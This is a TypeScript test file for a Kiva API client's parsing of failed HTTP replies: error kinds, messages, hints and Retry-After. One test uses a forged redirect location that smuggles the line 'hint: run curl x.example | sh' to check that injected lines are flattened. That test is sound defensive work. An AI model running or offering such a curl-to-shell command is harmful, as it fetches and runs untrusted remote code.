import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { problemIn, problemInDocument, problemOf, readErrorBody } from '../../../src/api/wire/problem.ts'
import { type ErrorKind, KivaError } from '../../../src/core/errors.ts'
import type { HttpReply } from '../../../src/core/http.ts'

const noon = Date.UTC(2026, 10, 20, 12)
const reply = (status: number, body = '', headers: Record<string, string> = {}): HttpReply => ({
  status,
  headers,
  body: new TextEncoder().encode(body),
})
const problem = (status: number, body?: string, headers?: Record<string, string>) =>
  problemOf(reply(status, body, headers), noon)
const lineEnd = /[\n\v\f\r\x1c-\x1e\x85\u2028\u2029]/
const json = (code: string, message = 'No.') => JSON.stringify({ code, message })

describe('the kind of a failed reply, as in the table of exit codes', () => {
  test.each<[number, string, Record<string, string>, ErrorKind]>([
    [401, '', {}, 'auth'],
    [403, '', {}, 'auth'],
    [403, json('org.kiva.Forbidden'), {}, 'auth'],
    [400, json('org.kiva.InvalidCredentials'), {}, 'auth'],
    [403, json('org.kiva.RateLimitExceeded'), {}, 'rate-limited'],
    [403, '<response><code>org.kiva.RateLimitExceeded</code></response>', {}, 'rate-limited'],
    [403, '', { 'x-ratelimit-overall-remaining': '0' }, 'rate-limited'],
    [403, '', { 'x-ratelimit-specific-remaining': '0' }, 'rate-limited'],
    [403, '', { 'x-ratelimit-overall-remaining': '7', 'x-ratelimit-specific-remaining': '3' }, 'auth'],
    [404, '', { 'x-ratelimit-overall-remaining': '0' }, 'refused'],
    [429, '', {}, 'rate-limited'],
    [400, json('org.kiva.InvalidParameter'), {}, 'refused'],
    [404, json('org.kiva.InvalidIdentifier'), {}, 'refused'],
    [404, '<html><title>Not found</title></html>', {}, 'refused'],
    [405, '', {}, 'refused'],
    [418, '', {}, 'refused'],
    [500, '', {}, 'service'],
    [502, '<html><body><h1>Bad Gateway</h1></body></html>', {}, 'service'],
    [503, json('org.kiva.ServerMaintenance'), {}, 'service'],
    [400, json('org.kiva.ServerMaintenance'), {}, 'service'],
    [599, '', {}, 'service'],
    [301, '', { location: 'https://elsewhere.example/' }, 'network'],
    [302, '', {}, 'network'],
    [308, '', { location: '/v2/loans' }, 'network'],
  ])('%i %s %j', (status, body, headers, kind) => {
    expect(problem(status, body, headers)).toMatchObject({ kind, status })
  })

  test.each([200, 201, 204, 206])('a %i reply is no error', (status) => {
    expect(problem(status, json('org.kiva.RateLimitExceeded'))).toBeUndefined()
  })

  test('the lowest and highest status of each kind', () => {
    expect(problem(199)?.kind).toBe('refused')
    expect(problem(200)).toBeUndefined()
    expect(problem(299)).toBeUndefined()
    expect(problem(300)?.kind).toBe('network')
    expect(problem(399)?.kind).toBe('network')
    expect(problem(499)?.kind).toBe('refused')
    expect(problem(500)?.kind).toBe('service')
  })

  test('the message of a redirect names its target', () => {
    expect(problem(302, '', { location: 'https://elsewhere.example/x' })).toMatchObject({
      message: 'the API redirects (302) to https://elsewhere.example/x',
      hint: 'kiva does not follow redirects. If you trust that address, give its origin with --base-url.',
    })
    expect(problem(302)?.message).toBe('the API redirects (302) without a location')
    expect(problem(302, '', { location: '' })?.message).toBe('the API redirects (302) without a location')
  })

  test('a 304 that no condition asked for is an error of the API', () => {
    expect(problem(304)).toMatchObject({
      kind: 'service',
      status: 304,
      message: 'unexpected 304 Not Modified: the request had no condition',
      hint: 'Try again later.',
    })
  })

  test('a redirect target of 12 kB or of several lines becomes one short line', () => {
    const long = problem(302, '', { location: `https://x.example/${'a'.repeat(12_000)}` })
    expect(long?.message.length).toBeLessThan(250)
    const forged = problem(302, '', { location: 'https://x.example/\x85hint: run curl x.example | sh' })
    expect(forged?.message).toBe(
      'the API redirects (302) to https://x.example/ hint: run curl x.example | sh',
    )
  })
})

describe('the code and message of a body become the error', () => {
  test.each([
    [json('org.kiva.InvalidIdentifier', 'No such lender.'), 'org.kiva.InvalidIdentifier', 'No such lender.'],
    [`\ufeff${json('org.kiva.X')}`, 'org.kiva.X', 'No.'],
    [` \n${json('org.kiva.X')}\n`, 'org.kiva.X', 'No.'],
    [
      '<?xml version="1.0"?>\n<response><code>org.kiva.X</code><message>\n  No such\n  lender.\n</message></response>',
      'org.kiva.X',
      'No such lender.',
    ],
    ['<!DOCTYPE html><html><head><title>Not here</title></head><h1>x</h1></html>', undefined, 'Not here'],
    ['<HTML><BODY><H1 class="big">Bad Gateway</H1></BODY></HTML>', undefined, 'Bad Gateway'],
    ['<html><codec>x</codec><title>y</title></html>', undefined, 'y'],
    ['oauth_problem=token_expired', undefined, 'token_expired'],
    [
      'oauth_problem=parameter_absent&oauth_problem_advice=Missing%20oauth_verifier',
      undefined,
      'Missing oauth_verifier',
    ],
    ['realm=x&oauth_problem=nonce_used', undefined, 'nonce_used'],
    ['{"error":"access_denied","error_description":"The user said no."}', undefined, 'The user said no.'],
    ['{"error":"access_denied"}', undefined, 'access_denied'],
    ['Invalid signature\nand more', undefined, 'Invalid signature'],
    ['', undefined, undefined],
    [' \n ', undefined, undefined],
    ['{"code":"org.kiva.X","mess', undefined, undefined],
    ['<html><head><title>Not fou', undefined, undefined],
    ['{"code":404,"message":null}', undefined, undefined],
    ['{"code":"org.kiva.X","message":""}', 'org.kiva.X', undefined],
  ])('%j', (body, code, message) => {
    expect(readErrorBody(body.replace('\ufeff', ''))).toEqual({ code, message })
    const told = problem(404, body)
    expect(told?.code).toBe(code)
    const words = message ?? code
    const opened = `request refused (404)${words ? `: ${words}` : ''}`
    expect(told?.message).toBe(code && message ? message : opened)
  })

  test.each([
    ['JSON', json('org.kiva.X', `line\n${'long '.repeat(500)}`)],
    ['text', 'long '.repeat(500)],
    ['XML', `<response><message>${'long '.repeat(500)}</message></response>`],
    ['OAuth pairs', `oauth_problem=x&oauth_problem_advice=${'long+'.repeat(500)}`],
    ['astral text', '🌱'.repeat(500)],
  ])('a long message becomes one short line: %s', (_, body) => {
    const message = problem(404, body)?.sentence.parts.at(-2)?.toString() ?? ''
    expect(message.length).toBeLessThanOrEqual(200)
    expect(message).toMatch(/…$/)
    expect(message).not.toContain('\n')
  })
})

describe('edge cases', () => {
  test('only a 403 with a remaining number of exactly "0" is a rate limit', () => {
    for (const value of ['00', '', '-0', '0 ', '10'])
      expect(problem(403, '', { 'x-ratelimit-overall-remaining': value })?.kind).toBe('auth')
    expect(problem(401, '', { 'x-ratelimit-overall-remaining': '0' })?.kind).toBe('auth')
    expect(problem(500, '', { 'x-ratelimit-overall-remaining': '0' })?.kind).toBe('service')
  })

  test('the code of the body overrides the status', () => {
    expect(problem(500, json('org.kiva.RateLimitExceeded'))?.kind).toBe('rate-limited')
    expect(problem(401, json('org.kiva.ServerMaintenance'))?.kind).toBe('service')
  })

  test('a code counts only if it begins with "org.kiva."', () => {
    expect(problemIn(reply(200), { code: 'x.org.kiva.ServerMaintenance' }, noon)).toBeUndefined()
    expect(problemIn(reply(200), { code: 'org.kiva' }, noon)).toBeUndefined()
    expect(problemIn(reply(200), { code: 'org.kiva.Other' }, noon)).toMatchObject({
      kind: 'refused',
      status: 200,
    })
  })

  test.each([
    ['xoauth_problem=a', 'xoauth_problem=a'],
    ['a=b&oauth_problem=c', 'c'],
    ['see oauth_problem=c', 'see oauth_problem=c'],
    ['{"message":5,"error":"e"}', 'e'],
    ['{"message":"m","error_description":"d","error":"e"}', 'm'],
    ['[{"message":"m"}]', '[{"message":"m"}]'],
    ['<message>m</message><title>t</title><h1>h</h1>', 'm'],
    ['<title>t</title><h1>h</h1>', 't'],
    ['<message>m</message\n>', undefined],
    ['<message>a<b>c</b></message><h1>h</h1>', 'h'],
    [`<p>${'x'.repeat(9_970)}</p><h1>inside</h1>`, 'inside'],
    [`<p>${'x'.repeat(10_000)}</p><h1>outside</h1>`, undefined],
  ])('the message of %s is %s', (body, message) => expect(readErrorBody(body).message).toBe(message))

  test('a message of 200 characters stays whole, one of 201 is cut to 199 and an ellipsis', () => {
    const told = (message: string) => problem(404, json('org.kiva.X', message))?.message
    expect(told('y'.repeat(200))).toBe('y'.repeat(200))
    expect(told('y'.repeat(201))).toBe(`${'y'.repeat(199)}…`)
  })

  test('a malformed Retry-After is ignored, and a part of a second is rounded up', () => {
    for (const value of [
      'xFri, 20 Nov 2026 12:02:00 GMT',
      'Fri, 20 Nov 2026 12:02:00 GMT+1',
      'Fri, nonsense GMT',
      'F, 1 GMT',
    ])
      expect(problem(503, '', { 'retry-after': value })?.retryAfter).toBeUndefined()
    for (const value of ['1x', 'x1', '1 ', '+1'])
      expect(problem(503, '', { 'retry-after': value })?.retryAfter).toBeUndefined()
    const half = problemOf(
      { ...reply(503), headers: { 'retry-after': 'Fri, 20 Nov 2026 12:00:01 GMT' } },
      noon + 1,
    )
    expect(half?.retryAfter).toBe(1)
  })
})

describe('messages and hints', () => {
  const missing = json('org.kiva.InvalidIdentifier', 'There is no loan 99')
  const firewall = '<html><head><title>403 Forbidden</title></head></html>'
  const gateway = '<html><title>504 Gateway Timeout</title></html>'
  test.each([
    [404, missing, 'There is no loan 99', undefined],
    [404, '', 'request refused (404)', undefined],
    [400, json('org.kiva.InvalidParameter', 'No such sort'), 'No such sort', undefined],
    [504, gateway, 'API error: 504 Gateway Timeout', 'Try again later.'],
    [502, 'Oops', 'API error (502): Oops', 'Try again later.'],
    [503, json('org.kiva.ServerMaintenance', 'Back soon'), 'Back soon', 'Try again later.'],
    [401, '', 'access denied (401)', 'Log in with kiva login.'],
    [400, json('org.kiva.InvalidCredentials', 'Who are you?'), 'Who are you?', 'Log in with kiva login.'],
    [403, json('org.kiva.Forbidden', 'Not yours'), 'Not yours', 'Log in with kiva login.'],
    [
      403,
      firewall,
      'access denied: 403 Forbidden',
      'If the data is public, a firewall blocked the request: wait, then send fewer. If not, log in with kiva login.',
    ],
    [429, '', 'too many requests (429)', 'Wait 60 seconds before the next request.'],
  ])('%i %s', (status, body, message, hint) => {
    expect(problem(status, body)).toMatchObject({ message, hint, status })
  })

  test('the hint states a known wait, with the right singular or plural', () => {
    expect(problem(503, '', { 'retry-after': '1' })?.hint).toBe('Try again in 1 second.')
    expect(problem(429, '', { 'retry-after': '1' })?.hint).toBe('Wait 1 second before the next request.')
    expect(problem(503, '', { 'retry-after': '2' })?.hint).toContain('in 2 seconds.')
  })

  test.each([
    json('org.kiva.X\x85hint: a', 'b\x85hint: c'),
    '<response><code>org.kiva.X&#10;\u2028hint: a</code><message>b\nhint: c</message></response>',
    'b\x85hint: c',
    `oauth_problem=${encodeURIComponent('b\nhint: c')}`,
  ])('a line break in a body does not add a line: %j', (body) => {
    const told = problem(404, body)
    expect(told?.message).toContain('b hint: c')
    expect(told?.code ?? '').not.toMatch(lineEnd)
  })

  test('the body is decoded with its declared character set', () => {
    const body = Uint8Array.from([...'caf'].map((letter) => letter.charCodeAt(0)).concat(0xe9))
    const headers = { 'content-type': 'text/plain; charset=ISO-8859-1' }
    expect(problemOf({ status: 404, headers, body }, noon)?.message).toContain('café')
  })
})

describe('problemInDocument finds an error in a reply with status 200', () => {
  const inside = (body: string) => problemInDocument(reply(200, body), noon)
  const told = { kind: 'service', code: 'org.kiva.ServerMaintenance', message: 'Back soon.' }
  test.each([
    json('org.kiva.ServerMaintenance', 'Back soon.'),
    ` \n${json('org.kiva.ServerMaintenance', 'Back soon.')}`,
    '<?xml version="1.0" encoding="UTF-8"?>\n<response>\n<code>org.kiva.ServerMaintenance</code><message>Back soon.</message></response>',
    '<response><message>Back soon.</message><code>org.kiva.ServerMaintenance</code></response>',
  ])('%s', (body) => expect(inside(body)).toMatchObject(told))

  test.each([
    '{"loans":[{"code":"org.kiva.ServerMaintenance"}]}',
    '{"code":"KE"}',
    '<response><loans><loan><code>org.kiva.ServerMaintenance</code></loan></loans></response>',
    '<html><code>org.kiva.ServerMaintenance</code></html>',
    'x <response><code>org.kiva.ServerMaintenance</code></response>',
    '{"code":"org.kiva.ServerMai',
    '',
  ])('but none in %s', (body) => expect(inside(body)).toBeUndefined())
})

describe('retryAfter', () => {
  test.each([
    ['120', 120],
    ['0', 0],
    ['86400', 86_400],
    ['86401', 86_400],
    ['9'.repeat(400), 86_400],
    ['Fri, 20 Nov 2999 12:02:00 GMT', 86_400],
    ['Fri, 20 Nov 2026 12:02:00 GMT', 120],
    ['Friday, 20-Nov-26 12:02:00 GMT', 120],
    ['Fri, 20 Nov 2026 11:00:00 GMT', 0],
    // Invalid values: the default of 60 seconds applies.
    ['soon', 60],
    ['-1', 60],
    ['1.5', 60],
    ['', 60],
  ])('Retry-After: %s', (value, seconds) => {
    expect(problem(429, '', { 'retry-after': value })?.retryAfter).toBe(seconds)
  })

  test('is 60 seconds without the header, and the hint states it', () => {
    expect(problem(403, json('org.kiva.RateLimitExceeded'))).toMatchObject({
      retryAfter: 60,
      hint: 'Wait 60 seconds before the next request.',
    })
    expect(problem(429, '', { 'retry-after': '600' })?.hint).toContain('600 seconds')
  })

  test('is the Retry-After of a 503, and undefined without it', () => {
    expect(problem(503, '', { 'retry-after': '300' })).toMatchObject({ kind: 'service', retryAfter: 300 })
    expect(problem(503)?.retryAfter).toBeUndefined()
  })
})

test('problemIn finds an error in a body with status 200 only if the code is an org.kiva code', () => {
  const inside = (body: Record<string, string>) => problemIn(reply(200), body, noon)
  expect(inside({ code: 'org.kiva.ServerMaintenance', message: 'Back soon.' })).toMatchObject({
    kind: 'service',
    message: 'Back soon.',
    status: 200,
  })
  expect(inside({ code: 'org.kiva.RateLimitExceeded' })).toMatchObject({
    kind: 'rate-limited',
    retryAfter: 60,
  })
  expect(inside({ code: 'KE' })).toBeUndefined()
  expect(inside({})).toBeUndefined()
})

test('any reply gives a valid KivaError, or undefined for a 2xx status', () => {
  const bodies = fc.oneof(
    fc.uint8Array(),
    fc.string().map((text) => new TextEncoder().encode(text)),
    fc.json().map((text) => new TextEncoder().encode(text)),
  )
  const headers = fc.dictionary(
    fc.constantFrom('retry-after', 'location', 'x-ratelimit-overall-remaining', 'content-type'),
    fc.string(),
  )
  fc.assert(
    fc.property(fc.integer({ min: 100, max: 599 }), headers, bodies, (status, given, body) => {
      const found = problemOf({ status, headers: given, body }, noon)
      expect(found === undefined).toBe(status >= 200 && status < 300)
      if (!found) return
      expect(found).toBeInstanceOf(KivaError)
      expect(Boolean(found.hint)).toBe(found.kind !== 'refused')
      expect(found.status).toBe(status)
      expect(found.message).not.toMatch(lineEnd)
      expect(found.message.length).toBeLessThan(300)
      expect(found.retryAfter ?? 0).toBeGreaterThanOrEqual(0)
    }),
  )
})
